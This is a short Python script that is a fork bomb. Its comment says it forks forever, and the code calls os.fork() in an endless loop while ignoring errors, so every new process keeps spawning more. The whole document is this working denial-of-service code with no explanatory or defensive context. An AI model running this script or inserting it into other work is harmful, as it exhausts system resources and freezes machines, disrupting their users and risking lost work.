# Forks for ever, in every process.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
